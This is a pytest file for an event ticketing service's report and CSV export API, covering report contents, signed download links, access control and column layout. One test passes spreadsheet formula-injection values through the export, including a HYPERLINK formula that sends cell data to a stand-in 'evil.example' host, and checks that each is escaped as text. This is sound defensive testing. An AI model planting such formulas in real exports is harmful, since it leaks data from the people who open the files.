"""Reports as files (R-SALES-3, R-SALES-4): their content, who may have them, and that spreadsheets open them."""

import csv
import hashlib
import io
import uuid
from datetime import timedelta
from typing import Any
from urllib.parse import parse_qs, urlsplit

import httpx
import pytest

from shared.kit.clock import utc_now
from tests.factories import (
    UNKNOWN_ID,
    Evening,
    add_past_sales,
    assert_problem,
    new_email,
    new_key,
    open_evening,
    order_fields,
    query,
)

SALES_COLUMNS = (
    "package_name,purchaser_name,purchaser_email,purchase_date,guest_name,guest_email,"
    "promo_code,discount_applied,final_price"
)


@pytest.fixture
def evening(client, issuer):
    return open_evening(client, issuer)


def listed(evening: Evening, **parameters: str) -> list[dict[str, Any]]:
    answer = evening.client.get(f"{evening.path}/reports", params=parameters, headers=evening.headers)
    items: list[dict[str, Any]] = answer.json()["items"]
    return items


def make_report(evening: Evening, kind: str = "sales", **fields: Any) -> dict[str, Any]:
    body = {"kind": kind} | fields
    answer = evening.client.post(f"{evening.path}/reports", json=body, headers=evening.headers)
    assert answer.status_code == 201, answer.text
    made: dict[str, Any] = answer.json()
    return made


def download(evening: Evening, report: dict[str, Any]) -> httpx.Response:
    redirect = evening.client.get(f"{evening.path}/reports/{report['id']}/download", headers=evening.headers)
    assert redirect.status_code == 302, redirect.text
    assert redirect.headers["Cache-Control"] == "no-store"
    return httpx.get(redirect.headers["Location"], trust_env=False)


def export(evening: Evening, **parameters: str) -> httpx.Response:
    return evening.client.get(f"{evening.packages}/export-csv", params=parameters, headers=evening.headers)


def rows_of(file: httpx.Response) -> list[dict[str, str]]:
    assert file.status_code == 200
    return list(csv.DictReader(io.StringIO(file.content.decode(), newline="")))


def test_a_report_made_now_is_listed_and_holds_every_ticket(evening):
    table = evening.package(name="Table", price_cents=1_000, seats_per_package=3)
    seat = evening.package(name="Seat", price_cents=2_599)
    first = evening.order((table["id"], 1), (seat["id"], 1), customer={"name": "Ada", "email": "ada@example.com"})
    second = evening.order((seat["id"], 1), customer={"name": "Bob, the “builder”", "email": "bob@example.com"})
    report = make_report(evening)
    assert (report["kind"], report["status"], report["rows"], report["error"]) == ("sales", "ready", 5, None)
    assert report["created_at"] <= report["finished_at"]
    assert report in listed(evening)
    file = download(evening, report)
    assert (len(file.content), hashlib.sha256(file.content).hexdigest()) == (report["bytes"], report["sha256"])
    assert file.headers["Content-Disposition"].startswith('attachment; filename="sales-')
    assert file.text.split("\r\n")[0] == SALES_COLUMNS

    def row(order: dict[str, Any], package: str, price: str) -> dict[str, str]:
        return {
            "package_name": package,
            "purchaser_name": order["customer"]["name"],
            "purchaser_email": order["customer"]["email"],
            "purchase_date": order["created_at"][:19] + "Z",
            "guest_name": "",
            "guest_email": "",
            "promo_code": "",
            "discount_applied": "0.00",
            "final_price": price,
        }

    assert rows_of(file) == [
        row(first, "Table", "3.34"),
        row(first, "Table", "3.33"),
        row(first, "Table", "3.33"),
        row(first, "Seat", "25.99"),
        row(second, "Seat", "25.99"),
    ]


def test_the_prices_of_a_report_add_up_to_the_revenue(evening):
    for price, seats, quantity in ((1, 3, 1), (9_999, 7, 3), (100, 6, 5), (0, 4, 1), (12_345, 1, 1)):
        evening.order((evening.package(price_cents=price, seats_per_package=seats)["id"], quantity))
    rows = rows_of(download(evening, make_report(evening)))
    cents = [int(row["final_price"].replace(".", "")) for row in rows]
    assert (len(rows), sum(cents)) == (3 + 21 + 30 + 4 + 1, 1 + 3 * 9_999 + 500 + 0 + 12_345)
    summary = evening.client.get(f"{evening.packages}/sales-summary", headers=evening.headers).json()
    assert summary["total_revenue_cents"] == sum(cents)


@pytest.mark.parametrize(("currency", "cents", "written"), [("JPY", 5_000, "5000"), ("KWD", 5, "0.005")])
def test_amounts_have_the_digits_of_their_currency(currency, cents, written, client, issuer):
    evening = open_evening(client, issuer, currency=currency)
    evening.order((evening.package(price_cents=cents)["id"], 1))
    assert [row["final_price"] for row in rows_of(download(evening, make_report(evening)))] == [written]


def test_what_a_spreadsheet_would_run_is_only_text_in_a_report(evening):
    formula = '=HYPERLINK("https://evil.example?"&A1,"click")'
    named = {formula: f"'{formula}", "+1": "'+1", "-1": "'-1", "@SUM(A1)": "'@SUM(A1)", "a=b": "a=b", "1-1": "1-1"}
    for name in named:
        package = evening.package(name=name)
        evening.order((package["id"], 1), customer={"name": name, "email": f"=cmd-{new_email()}"})
    rows = rows_of(download(evening, make_report(evening)))
    assert [row["package_name"] for row in rows] == list(named.values())
    assert [row["purchaser_name"] for row in rows] == list(named.values())
    assert all(row["purchaser_email"].startswith("'=cmd-") for row in rows)


def test_a_report_without_sales_is_a_header(evening):
    report = make_report(evening)
    assert (report["status"], report["rows"]) == ("ready", 0)
    assert rows_of(download(evening, report)) == []
    assert len(download(evening, report).text.splitlines()) == 1


def test_reports_are_listed_the_newest_first(evening):
    made = [make_report(evening)["id"] for _ in range(3)]
    assert [report["id"] for report in listed(evening)] == made[::-1]


def test_the_file_of_a_report_opens_by_its_link_alone(evening):
    evening.order((evening.package()["id"], 1))
    report = make_report(evening)
    path = f"{evening.path}/reports/{report['id']}/download"
    link = evening.client.get(path, headers=evening.headers).headers["Location"]
    assert httpx.get(link, trust_env=False).status_code == 200
    assert httpx.get(link.partition("?")[0], trust_env=False).status_code in {403, 404, 409}
    assert httpx.put(link, content=b"mine", headers={"x-ms-blob-type": "BlockBlob"}, trust_env=False).status_code == 403
    assert httpx.delete(link, trust_env=False).status_code == 403
    lifetime = parse_qs(urlsplit(link).query)
    assert lifetime["sp"] == ["r"]
    assert lifetime["se"][0] > utc_now().strftime("%Y-%m-%dT%H:%M:%SZ")
    assert lifetime["se"][0] <= (utc_now() + timedelta(minutes=10)).strftime("%Y-%m-%dT%H:%M:%SZ")


def test_another_events_report_is_not_found(client, issuer, evening):
    theirs = open_evening(client, issuer)
    report = make_report(theirs)
    for report_id in (report["id"], UNKNOWN_ID):
        answer = client.get(f"{evening.path}/reports/{report_id}/download", headers=evening.headers)
        assert_problem(answer, 404, "report_not_found")
    assert listed(evening) == []


def test_a_report_that_is_not_ready_is_not_downloaded(evening, database_url):
    report_id, now = str(uuid.uuid4()), utc_now()
    statement = (
        "INSERT INTO report_runs (event_id, id, kind, cause, with_bom, due_at, created_at, attempts, next_attempt_at)"
        " VALUES (%s, %s, 'sales', 'asked', false, %s, %s, 1, %s) RETURNING 1"
    )
    assert query(database_url, statement, evening.id, report_id, now, now, now + timedelta(hours=1))
    answer = evening.client.get(f"{evening.path}/reports/{report_id}/download", headers=evening.headers)
    assert assert_problem(answer, 409, "report_not_ready")["report_status"] == "running"
    assert [(report["id"], report["status"]) for report in listed(evening)] == [(report_id, "running")]


def test_an_unknown_kind_of_report_is_refused(evening):
    answer = evening.client.post(f"{evening.path}/reports", json={"kind": "gossip"}, headers=evening.headers)
    assert_problem(answer, 422, "invalid_input")
    assert listed(evening) == []


# --- the export through the API -------------------------------------------------------------------------------------


def test_the_export_is_the_file_that_a_report_holds(evening):
    for name in ("Ada", "=1+1", "Bob, the “builder”"):
        evening.order((evening.package()["id"], 2), customer={"name": name, "email": new_email()})
    for with_bom in (False, True):
        answer = export(evening, with_bom=str(with_bom).lower())
        report = make_report(evening, with_bom=with_bom)
        assert (answer.status_code, answer.headers["Content-Type"]) == (200, "text/csv; charset=utf-8")
        assert answer.headers["Content-Disposition"].startswith('attachment; filename="sales-')
        assert answer.headers["Cache-Control"] == "no-store"
        assert answer.content == download(evening, report).content
        assert answer.content.startswith(b"\xef\xbb\xbf") is with_bom
    assert report["rows"] == 6


def ask(evening: Evening, package: dict[str, Any], label: str, kind: str = "text_input", **fields: Any) -> str:
    """Add an optional question to a package; return its id."""
    body = {"label": label, "option_type": kind, "is_required": False} | fields
    made = evening.client.post(f"{evening.packages}/{package['id']}/custom-options", json=body, headers=evening.headers)
    assert made.status_code == 201, made.text
    return str(made.json()["id"])


def buy(evening: Evening, package: dict[str, Any], quantity: int, *answers: dict[str, Any]) -> dict[str, Any]:
    items = [{"package_id": package["id"], "quantity": quantity, "answers": list(answers)}]
    body = order_fields([]) | {"items": items}
    headers = {"Idempotency-Key": new_key()}
    answer = evening.client.post(f"/public/events/{evening.id}/orders", json=body, headers=headers)
    assert answer.status_code == 201, answer.text
    order: dict[str, Any] = answer.json()
    return order


def test_each_line_ends_as_rfc_4180_says_and_one_inside_a_cell_stays_as_it_is(evening):
    package = evening.package()
    buy(evening, package, 1, {"option_id": ask(evening, package, "Wishes"), "value": "two\nlines"})
    text = export(evening).content.decode()
    assert text.startswith(f"{SALES_COLUMNS},Wishes\r\n")
    assert text.endswith('50.00,"two\nlines"\r\n')
    assert text.count("\r\n") == 2


def test_answers_stand_in_a_column_for_each_label_the_oldest_question_first(evening):
    seat, table = evening.package(name="Seat"), evening.package(name="Table", seats_per_package=2)
    evening.patch_package(table["id"], {"options_per": "ticket"})
    meal = {"choices": ["Fish", "Lamb, rare", "Vegan"], "max_choices": 2}
    seat_meal, vip = ask(evening, seat, "Meal", "multi_select", **meal), ask(evening, seat, "VIP?", "boolean")
    formula = ask(evening, table, "=1+1")
    table_meal = ask(evening, table, "Meal", "multi_select", **meal)
    confusing, twice = ask(evening, table, "promo_code"), ask(evening, seat, "Meal")
    buy(
        evening,
        seat,
        2,
        {"option_id": seat_meal, "value": ["Vegan", "Lamb, rare"]},
        {"option_id": vip, "value": True},
        {"option_id": twice, "value": "No salt"},
    )
    buy(
        evening,
        table,
        1,
        {"option_id": table_meal, "value": ["Fish"], "ticket": 1},
        {"option_id": formula, "value": "'@home", "ticket": 2},
        {"option_id": confusing, "value": "TENTH", "ticket": 2},
    )
    file = export(evening)
    assert file.content.decode().split("\r\n")[0] == f"{SALES_COLUMNS},Meal,VIP?,'=1+1,promo_code (answer),Meal (2)"
    answers = [list(row.values())[9:] for row in rows_of(file)]
    assert answers == [
        ["Vegan; Lamb, rare", "yes", "", "", "No salt"],
        ["Vegan; Lamb, rare", "yes", "", "", "No salt"],
        ["Fish", "", "", "", ""],
        ["", "", "''@home", "TENTH", ""],
    ]
    attendees = rows_of(download(evening, make_report(evening, "attendees")))
    assert [list(row.values())[10:] for row in attendees] == answers
    # The questions are reordered and one is retired: the columns keep their places.
    order = {"option_ids": [vip, twice, seat_meal]}
    reordered = evening.client.put(
        f"{evening.packages}/{seat['id']}/custom-options/reorder", json=order, headers=evening.headers
    )
    assert reordered.status_code == 200
    evening.client.patch(
        f"{evening.packages}/{seat['id']}/custom-options/{vip}", json={"is_active": False}, headers=evening.headers
    )
    assert export(evening).content == file.content


def test_an_export_too_large_for_an_answer_is_written_as_a_report_and_linked(evening, database_url):
    package = evening.package(price_cents=100)
    add_past_sales(database_url, evening.id, package["id"], 9_000, name="N" * 1_000)
    answer = export(evening)
    assert answer.status_code == 302, answer.text
    file = httpx.get(answer.headers["Location"], trust_env=False)
    [report] = listed(evening)
    assert (report["kind"], report["status"], report["rows"], report["bytes"]) == (
        "sales",
        "ready",
        9_000,
        len(file.content),
    )
    assert len(file.content) > 9_000_000
    assert hashlib.sha256(file.content).hexdigest() == report["sha256"]


# --- the other kinds ------------------------------------------------------------------------------------------------


def test_every_kind_tells_what_it_is_about(evening):
    table = evening.package(name="Table", price_cents=10_000, seats_per_package=2)
    code = {"code": "TENTH", "discount_type": "percentage", "discount_value": 10}
    evening.client.post(f"{evening.path}/promo-codes", json=code, headers=evening.headers)
    ada = {"name": "Ada", "email": "ada@example.com", "phone": "+44 20 7946 0000"}
    order = evening.order((table["id"], 1), promo_code="TENTH", customer=ada)
    pending = evening.order((table["id"], 1), payment_method="card", customer=ada | {"phone": None})
    moment = order["created_at"][:19] + "Z"
    files = {
        kind: rows_of(download(evening, make_report(evening, kind)))
        for kind in ("orders", "attendees", "promo_codes", "ledger")
    }
    paid, waiting = files["orders"]
    assert paid == {
        "order_number": order["number"],
        "status": "paid",
        "channel": "online",
        "placed_at": moment,
        "paid_at": moment,
        "purchaser_name": "Ada",
        "purchaser_email": "ada@example.com",
        "purchaser_phone": "'+44 20 7946 0000",
        "items": "1 × Table",
        "tickets": "2",
        "currency": "USD",
        "subtotal": "100.00",
        "discount": "10.00",
        "fees": "0.00",
        "tax": "0.00",
        "total": "90.00",
        "included_fees": "0.00",
        "included_tax": "0.00",
        "refunded": "0.00",
        "promo_code": "TENTH",
        "payment_method": "test",
        "payment_reference": order["payment"]["provider_reference"],
        "sold_by": "",
    }
    assert (waiting["order_number"], waiting["status"], waiting["paid_at"], waiting["purchaser_phone"]) == (
        pending["number"],
        "pending",
        "",
        "",
    )
    assert [(row["ticket_number"], row["status"], row["order_number"]) for row in files["attendees"]] == [
        (ticket["number"], "valid", order["number"]) for ticket in order["tickets"]
    ]
    assert files["promo_codes"] == [
        {
            "promo_code": "TENTH",
            "is_active": "yes",
            "discount_type": "percentage",
            "discount_value": "10.00",
            "starts_at": "",
            "expires_at": "",
            "max_total_uses": "",
            "times_used": "1",
            "discount_given": "10.00",
            "total_of_orders": "90.00",
            "first_used_at": moment,
            "last_used_at": moment,
        }
    ]
    booked = [(row["order_number"], row["kind"], row["debit"], row["credit"], row["amount"]) for row in files["ledger"]]
    assert sorted(booked) == [
        (order["number"], "charge", "money:test", "receivable", "90.00"),
        (order["number"], "discount", "discounts", "receivable", "10.00"),
        (order["number"], "sale", "receivable", "sales", "100.00"),
    ]


def test_reports_are_listed_by_kind_and_in_pages(evening):
    made = [make_report(evening, kind) for kind in ("ledger", "orders", "ledger")]
    assert [report["id"] for report in listed(evening, kind="ledger")] == [made[2]["id"], made[0]["id"]]
    page = evening.client.get(f"{evening.path}/reports?page=2&page_size=2", headers=evening.headers).json()
    assert [report["id"] for report in page["items"]] == [made[0]["id"]]
    assert (page["page"], page["page_size"], page["total"]) == (2, 2, 3)
